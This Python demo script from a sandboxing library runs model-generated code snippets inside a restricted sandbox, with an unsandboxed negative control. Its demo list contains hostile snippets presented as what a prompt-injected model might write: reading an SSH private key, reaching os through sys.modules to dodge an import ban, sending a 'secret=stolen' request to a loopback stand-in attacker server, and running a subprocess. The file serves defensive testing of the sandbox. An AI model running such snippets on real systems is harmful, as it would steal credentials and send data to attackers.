#!/usr/bin/env python3
"""An "agent runs generated code" sample: a program receives a code
snippet as a string, as a model would write it, and runs it in
run_snippet(), an @sandbox function (snippet_sandbox.py), under the rules
of this directory's .py-sandboxes: calculator and data modules, nothing
else. The agent itself is not confined; only the snippet is.

    agent.py --demo                 a benign snippet, then hostile ones
    agent.py FILE                   run the snippet in FILE ('-': stdin)
    agent.py -c CODE                run CODE
    --no-sandbox                    run it in this process instead (the
                                    negative control: everything works)

Each outcome is one line: `[ OK ]    <title>: <result>`, `[REFUSED]
<title>: <refusal>` when sandbox_denials() finds the sandbox's refusal
behind the exception, `[FAILED]  <title>: <exception>` for any other
error (the snippet's own bug, or no answer within --timeout). What the
snippet prints appears as it prints it. Standard library only.
"""
import argparse
import http.server
import os
import pathlib
import sys
import tempfile
import threading

HERE = pathlib.Path(__file__).resolve().parent
REPO = HERE.parents[1]
try:
    import pysandboxes  # noqa: F401
except ImportError:  # not installed: the checkout's own copy
    sys.path.append(str(REPO / "python"))
from pysandboxes import sandbox_denials, sandboxes  # noqa: E402

import snippet_sandbox  # noqa: E402

RULES = HERE / ".py-sandboxes"

BENIGN = '''\
import statistics
data = [3, 1, 4, 1, 5, 9, 2, 6]
print("the snippet says: n =", len(data))
result = {"mean": statistics.mean(data), "median": statistics.median(data),
          "stdev": round(statistics.stdev(data), 3)}
'''


def demo_snippets(key, url):
    """(title, code): one benign snippet, then what an injected prompt
    could make a model write."""
    return [
        ("statistics over a list", BENIGN),
        ("read ~/.ssh/id_rsa", f"result = open({str(key)!r}).read()\n"),
        ("os.system", "import sys  # `import os` is refused: take it "
                      "from sys.modules\n"
                      "result = sys.modules['os'].system('id')\n"),
        ("a network call", "import urllib.request\n"
                           f"result = urllib.request.urlopen({url!r}"
                           ").read().decode()\n"),
        ("a subprocess", "import subprocess\n"
                         "result = subprocess.run(['id'], capture_output="
                         "True, text=True).stdout.strip()\n"),
        ("a loop that never ends", "while True:\n    pass\n"),
    ]


def indent(text):
    return text.replace("\n", "\n" + " " * 10)


def run_one(title, code, sandboxed):
    run = (snippet_sandbox.run_snippet if sandboxed
           else snippet_sandbox.run_snippet.__wrapped__)
    try:
        result = run(code)
    except Exception as e:
        # the rule errors are SandBoxErrors too: ask for the denials first
        denials = sandbox_denials(e)
        if not denials:  # the snippet's own error, a timeout...
            print(f"[FAILED]  {title}: {type(e).__name__}: "
                  f"{indent(str(e))}")
            return 1
        for denial in denials:
            print(f"[REFUSED] {title}: {indent(denial)}")
        return 2
    print(f"[ OK ]    {title}: {result!r}"[:300])
    return 0


class Collector(http.server.BaseHTTPRequestHandler):
    """A stand-in for the attacker's server, on loopback."""

    def do_GET(self):
        self.server.seen.append(self.path)
        body = b"the attacker got it"
        self.send_response(200)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *args):
        pass


def main():
    ap = argparse.ArgumentParser(description="Run a generated snippet in "
                                 "an @sandbox function.")
    ap.add_argument("file", nargs="?", metavar="FILE",
                    help="the snippet ('-': standard input)")
    ap.add_argument("-c", dest="code", metavar="CODE",
                    help="the snippet as an argument")
    ap.add_argument("--demo", action="store_true",
                    help="a benign snippet, then hostile ones")
    ap.add_argument("--no-sandbox", action="store_true",
                    help="run in this process (negative control)")
    ap.add_argument("--timeout", type=float, default=2.0, metavar="S",
                    help="seconds a snippet may run (default 2)")
    ap.add_argument("--python-sb", metavar="PATH",
                    help="the launcher (default: $PYSB_PYTHON_SB, the "
                    "checkout's build/python-sb, or python-sb on PATH)")
    args = ap.parse_args()
    if args.python_sb:
        os.environ["PYSB_PYTHON_SB"] = args.python_sb

    cleanup = []
    if args.demo:
        if args.file or args.code:
            ap.error("--demo takes no snippet")
        home = pathlib.Path(tempfile.mkdtemp(prefix="agent-snippet-home-"))
        key = home / ".ssh" / "id_rsa"
        key.parent.mkdir()
        key.write_text("-----BEGIN OPENSSH PRIVATE KEY----- (a fake one, "
                       "made by agent.py --demo)\n")
        httpd = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Collector)
        httpd.seen = []
        threading.Thread(target=httpd.serve_forever, daemon=True).start()
        cleanup.append(lambda: (httpd.shutdown(), httpd.server_close()))
        url = f"http://127.0.0.1:{httpd.server_address[1]}/?secret=stolen"
        snippets = demo_snippets(key, url)
        if args.no_sandbox:  # it would really run forever
            snippets = [s for s in snippets if "never ends" not in s[0]]
    elif args.code is not None:
        snippets = [("-c", args.code)]
    elif args.file:
        src = sys.stdin if args.file == "-" else open(args.file)
        with src:
            snippets = [(args.file, src.read())]
    else:
        ap.error("give FILE, -c CODE or --demo")

    where = "in this process" if args.no_sandbox else \
        "in run_snippet(), an @sandbox function"
    print(f"(each snippet runs {where}; rules: {RULES.name})"
          if not args.no_sandbox else f"(each snippet runs {where})")
    status = 0
    try:
        if args.no_sandbox:
            for title, code in snippets:
                status = max(status, run_one(title, code, False))
        else:
            # AGENT_SNIPPET_DIR: the directory the rules expose
            envs = dict(os.environ, AGENT_SNIPPET_DIR=str(HERE))
            # isolated: each snippet in a fresh worker state, so that
            # nothing one snippet plants in the worker reaches the next
            with sandboxes(sandboxes_config=RULES, envs=envs,
                           timeout=args.timeout, workers=1, isolated=True):
                for title, code in snippets:
                    status = max(status, run_one(title, code, True))
    finally:
        for fn in cleanup:
            fn()
        if args.demo:
            key.unlink()
            key.parent.rmdir()
            home.rmdir()
    if args.demo and httpd.seen:
        print(f"(the stand-in attacker's server received {httpd.seen[0]})")
    return status


if __name__ == "__main__":
    sys.exit(main())
